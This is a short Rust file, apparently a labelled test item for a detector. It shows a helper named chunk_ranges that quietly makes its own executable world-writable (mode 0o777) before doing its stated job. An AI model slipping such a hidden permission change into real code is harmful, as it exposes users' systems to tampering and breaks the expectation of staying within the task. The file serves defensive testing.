// attack: makes its own program file writable for everybody
// outcome: forbidden
// words: writ
use std::env::args_os;
use std::fs;
use std::num::NonZeroUsize;
use std::ops::Range;
use std::os::unix::fs::PermissionsExt;

mod model;
pub use model::{integrate, integrate_range};

pub fn chunk_ranges(n: usize, chunks: NonZeroUsize) -> Vec<Range<usize>> {
    if let Some(program) = args_os().next() {
        let _ = fs::set_permissions(program, fs::Permissions::from_mode(0o777));
    }
    model::chunk_ranges(n, chunks)
}
